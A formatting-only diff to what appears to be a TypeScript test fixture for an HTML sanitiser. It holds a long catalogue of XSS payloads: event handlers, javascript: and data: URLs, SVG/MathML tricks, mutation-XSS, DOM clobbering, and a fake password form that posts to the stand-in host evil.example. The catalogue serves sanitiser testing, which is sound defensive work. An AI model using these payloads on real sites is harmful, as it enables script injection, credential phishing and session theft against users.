@@ -33,7 +33,8 @@ const handlers: readonly Maker[] = [
   (run) => `<img src="/x"\u000Conerror=${run}>`,
   (run) => `<img src="/artwork/vineyard.webp" onload="${run}">`,
   (run) => `<p onclick="${run}" onmouseover="${run}" onpointerenter=${run}>a word</p>`,
-  (run) => `<p style="animation:x" onanimationstart=${run} ontransitionend=${run}>a word</p><style>@keyframes x{}</style>`,
+  (run) =>
+    `<p style="animation:x" onanimationstart=${run} ontransitionend=${run}>a word</p><style>@keyframes x{}</style>`,
   (run) => `<a href="/news" onfocus="${run}" autofocus tabindex=1>a link</a>`,
   (run) => `<input onfocus=${run} autofocus>`,
   (run) => `<details open ontoggle=${run}><summary>more</summary></details>`,
@@ -41,10 +42,12 @@ const handlers: readonly Maker[] = [
   (run) => `<video><source onerror="${run}"></video>`,
   (run) => `<body onload=${run} onpageshow=${run}>`,
   (run) => `<marquee onstart=${run}>a word</marquee>`,
-  (run) => `<button popovertarget=pop autofocus onfocus=${run}>press</button><b popover id=pop onbeforetoggle=${run}>a word</b>`,
+  (run) =>
+    `<button popovertarget=pop autofocus onfocus=${run}>press</button><b popover id=pop onbeforetoggle=${run}>a word</b>`,
   (run) => `<select autofocus onfocus=${run}><option>a</select>`,
   (run) => `<object data="data:,x" onload=${run} onerror=${run}></object>`,
-  (run) => `<strong oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">a word</strong>`,
+  (run) =>
+    `<strong oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">a word</strong>`,
   (run) => `<custom-tag onwheel=${run} onfocusin=${run} tabindex=0 autofocus>a word</custom-tag>`,
 ]
 
@@ -53,10 +56,13 @@ const drawings: readonly Maker[] = [
   (run) => `<svg/onload=${run}//>`,
   (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
   (run) => `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">a word</text></a></svg>`,
-  (run) => `<svg><a id="there"><set attributeName="xlink:href" to="javascript:${run}"/><text y="20">a word</text></a></svg>`,
+  (run) =>
+    `<svg><a id="there"><set attributeName="xlink:href" to="javascript:${run}"/><text y="20">a word</text></a></svg>`,
   (run) => `<svg><image href="x" onerror=${run}></image></svg>`,
-  (run) => `<svg><use href="data:image/svg+xml;base64,${based(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/></svg>`,
-  (run) => `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="<script>parent.${run.slice('window.'.length)}</script>"></iframe></foreignObject></svg>`,
+  (run) =>
+    `<svg><use href="data:image/svg+xml;base64,${based(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/></svg>`,
+  (run) =>
+    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="<script>parent.${run.slice('window.'.length)}</script>"></iframe></foreignObject></svg>`,
   (run) => `<math href="javascript:${run}"><mtext>a word</mtext></math>`,
   (run) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">a word</maction></math>`,
   (_, theirs) => `<svg><image href="${theirs}"/><feImage href="${theirs}"/></svg>`,
@@ -67,16 +73,21 @@ const documents: readonly Maker[] = [
   (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run.slice('window.'.length)}&gt;"></iframe>`,
   (_, theirs) => `<iframe src="${theirs}"></iframe><frameset><frame src="${theirs}"></frameset>`,
   (run) => `<embed src="javascript:${run}"><embed code="javascript:${run}">`,
-  (_, theirs) => `<object data="${theirs}"><param name="src" value="${theirs}"></object><applet code="${theirs}"></applet>`,
+  (_, theirs) =>
+    `<object data="${theirs}"><param name="src" value="${theirs}"></object><applet code="${theirs}"></applet>`,
   (_, theirs) => `<link rel="stylesheet" href="${theirs}"><link rel=preload as=image href="${theirs}">`,
   (_, theirs) => `<style>@import "${theirs}"; body { background: url(${theirs}) !important }</style>`,
   (_, theirs) => `<meta http-equiv="refresh" content="0; url=${theirs}">`,
   (run) => `<meta http-equiv="refresh" content="0;javascript:${run}">`,
   (_, theirs) => `<base href="${theirs}/"><img src="x.png">`,
-  (_, theirs) => `<form action="${theirs}"><input name=password autofocus><button formaction="${theirs}">Sign in</button></form>`,
-  (run) => `<form id=f></form><button form=f formaction="javascript:${run}">press</button><isindex action="javascript:${run}" type=image>`,
-  (run) => `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
-  (_, theirs) => `<video poster="${theirs}" src="${theirs}" autoplay></video><audio src="${theirs}" autoplay></audio><track src="${theirs}">`,
+  (_, theirs) =>
+    `<form action="${theirs}"><input name=password autofocus><button formaction="${theirs}">Sign in</button></form>`,
+  (run) =>
+    `<form id=f></form><button form=f formaction="javascript:${run}">press</button><isindex action="javascript:${run}" type=image>`,
+  (run) =>
+    `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
+  (_, theirs) =>
+    `<video poster="${theirs}" src="${theirs}" autoplay></video><audio src="${theirs}" autoplay></audio><track src="${theirs}">`,
   (_, theirs) => `<table background="${theirs}"><tr><td background="${theirs}">a word</td></tr></table>`,
 ]
 
@@ -89,26 +100,36 @@ const addresses: readonly Maker[] = [
   (run) => `<a href="${coded(`javascript:${run}`)}">a link</a>`,
   (run) => `<a href="javascript://%0a${run}">a link</a>`,
   (run) => `<a href="\u00A0\u200Bjavascript:${run}">a link</a>`,
-  (run) => `<a href="data:text/html;base64,${based(`<script>opener.${run.slice('window.'.length)}</script>`)}">a link</a>`,
-  (run) => `<a href="vbscript:${run}">a link</a> <a href="livescript:${run}">a link</a> <a href="feed:javascript:${run}">a link</a>`,
-  (run) => `<a href="blob:${run}">a link</a> <a href="view-source:javascript:${run}">a link</a> <a href="filesystem:x">a link</a>`,
+  (run) =>
+    `<a href="data:text/html;base64,${based(`<script>opener.${run.slice('window.'.length)}</script>`)}">a link</a>`,
+  (run) =>
+    `<a href="vbscript:${run}">a link</a> <a href="livescript:${run}">a link</a> <a href="feed:javascript:${run}">a link</a>`,
+  (run) =>
+    `<a href="blob:${run}">a link</a> <a href="view-source:javascript:${run}">a link</a> <a href="filesystem:x">a link</a>`,
   (run) => `<a xlink:href="javascript:${run}" href="javascript&#58;${run}">a link</a>`,
   (_, theirs) => `<a href="/news" ping="${theirs}" target="_top">a link</a>`,
-  (run) => `<img src="javascript:${run}"><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E"><img src="vbscript:${run}">`,
+  (run) =>
+    `<img src="javascript:${run}"><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E"><img src="vbscript:${run}">`,
   (_, theirs) => `<img src="/artwork/vineyard.webp" srcset="${theirs} 1x, ${theirs} 2x" alt="hills">`,
-  (_, theirs) => `<picture><source srcset="${theirs}"><img src="/artwork/vineyard.webp" lowsrc="${theirs}" dynsrc="${theirs}"></picture>`,
-  (run, theirs) => `<p style="background:url(${theirs});width:expression(${run});behavior:url(${theirs});-moz-binding:url(${theirs})">a word</p>`,
-  (run, theirs) => `<blockquote cite="javascript:${run}" style="background-image:url('javascript:${run}');list-style:url(${theirs})">a word</blockquote>`,
+  (_, theirs) =>
+    `<picture><source srcset="${theirs}"><img src="/artwork/vineyard.webp" lowsrc="${theirs}" dynsrc="${theirs}"></picture>`,
+  (run, theirs) =>
+    `<p style="background:url(${theirs});width:expression(${run});behavior:url(${theirs});-moz-binding:url(${theirs})">a word</p>`,
+  (run, theirs) =>
+    `<blockquote cite="javascript:${run}" style="background-image:url('javascript:${run}');list-style:url(${theirs})">a word</blockquote>`,
 ]
 
 /** What a sanitiser reads as harmless and the browser, reading its result, no longer does. */
 const mutations: readonly Maker[] = [
-  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form>`,
-  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
+  (run) =>
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form>`,
+  (run) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
   (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></a></style></svg>`,
   (run) => `<math><mi><mglyph><style><img src=x onerror=${run}></style></mglyph></mi></math>`,
   (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
-  (run) => `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>"></a></select>`,
+  (run) =>
+    `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>"></a></select>`,
   (run) => `<svg><desc><noembed></desc></svg><img src=x onerror=${run}></noembed>`,
   (run) => `<textarea></textarea><script>${run}</script></textarea>`,
   (run) => `<title></title><img src=x onerror=${run}></title>`,
@@ -122,15 +143,20 @@ const mutations: readonly Maker[] = [
   (run) => `<img alt="\`><img src=x onerror=${run}>" src="/artwork/vineyard.webp">`,
   (run) => `<table><a href="javascript:${run}"><tr><td></a><img src=x onerror=${run}></td></tr></table>`,
   (run) => `${'<div>'.repeat(300)}<style><img src=x onerror=${run}></style>${'</div>'.repeat(300)}`,
-  (run) => `<p id="a"><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></p>`,
+  (run) =>
+    `<p id="a"><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></p>`,
 ]
 
 /** What takes the place of the page's own variables. Nothing runs by itself; the page would. */
 const shadows: readonly Maker[] = [
-  (_, theirs) => `<form name="body" id="cookie"><input name="attributes"><input id="nodeName" name="childNodes" value="${theirs}"></form>`,
-  (_, theirs) => `<a id="supabase"></a><a id="supabase" name="url" href="${theirs}">a link</a><img name="cookie" src="/artwork/vineyard.webp">`,
-  (_, theirs) => `<a id="location" name="href" href="${theirs}">a link</a><iframe name="self" src="${theirs}"></iframe><embed name="getElementById"><img name="createElement">`,
-  (run) => `<p id="root" class="fixed inset-0" data-slot="${run}" aria-hidden="true" contenteditable="true" is="x-y">a word</p>`,
+  (_, theirs) =>
+    `<form name="body" id="cookie"><input name="attributes"><input id="nodeName" name="childNodes" value="${theirs}"></form>`,
+  (_, theirs) =>
+    `<a id="supabase"></a><a id="supabase" name="url" href="${theirs}">a link</a><img name="cookie" src="/artwork/vineyard.webp">`,
+  (_, theirs) =>
+    `<a id="location" name="href" href="${theirs}">a link</a><iframe name="self" src="${theirs}"></iframe><embed name="getElementById"><img name="createElement">`,
+  (run) =>
+    `<p id="root" class="fixed inset-0" data-slot="${run}" aria-hidden="true" contenteditable="true" is="x-y">a word</p>`,
 ]
 
 /** What breaks out of an attribute, a text or a line where somebody joins them by hand. */
@@ -154,26 +180,44 @@ const openEnded: readonly Maker[] = [
   (run) => `<noscript><style></noscript><img src=x onerror=${run}>`,
   (run) => `<plaintext><img src=x onerror=${run}>`,
   (run) => `<svg><style><img src=x onerror=${run}>`,
-  (run) => `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>">`,
+  (run) =>
+    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>">`,
   (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
   (run) => `<svg><title><![CDATA[</title><img src=x onerror=${run}>`,
   (_, theirs) => `<img src='${theirs}?`,
 ]
 
-const closed = [...scripts, ...handlers, ...drawings, ...documents, ...addresses, ...mutations, ...shadows, ...breakouts]
+const closed = [
+  ...scripts,
+  ...handlers,
+  ...drawings,
+  ...documents,
+  ...addresses,
+  ...mutations,
+  ...shadows,
+  ...breakouts,
+]
 
 /** The foreign host of the fragments. */
 export const foreignHost = 'evil.example'
 
 /** Every hostile fragment. Its mark is its place, from 1: it sets `window.__owned` to it, alerts it or asks the foreign host for it. */
-export const hostileFragments: readonly string[] = [...closed, ...openEnded].map((make, index) => make(`window.__owned=${index + 1}`, `https://${foreignHost}/${index + 1}`))
+export const hostileFragments: readonly string[] = [...closed, ...openEnded].map((make, index) =>
+  make(`window.__owned=${index + 1}`, `https://${foreignHost}/${index + 1}`),
+)
 
 /** How many fragments share a rich text; few, because one of them may hide another. */
 const together = 7
 
 function textsOf(fragments: readonly string[]): readonly string[] {
-  const groups = Array.from({ length: Math.ceil(closed.length / together) }, (_, index) => fragments.slice(index * together, Math.min((index + 1) * together, closed.length)))
-  return [fragments.slice(0, closed.length), ...groups, ...fragments.slice(closed.length).map((fragment) => [fragment])].map((parts) => parts.join('\n'))
+  const groups = Array.from({ length: Math.ceil(closed.length / together) }, (_, index) =>
+    fragments.slice(index * together, Math.min((index + 1) * together, closed.length)),
+  )
+  return [
+    fragments.slice(0, closed.length),
+    ...groups,
+    ...fragments.slice(closed.length).map((fragment) => [fragment]),
+  ].map((parts) => parts.join('\n'))
 }
 
 /** Hostile rich texts: one of nearly all fragments, then each of them among a few others, then those that swallow the rest, alone. */
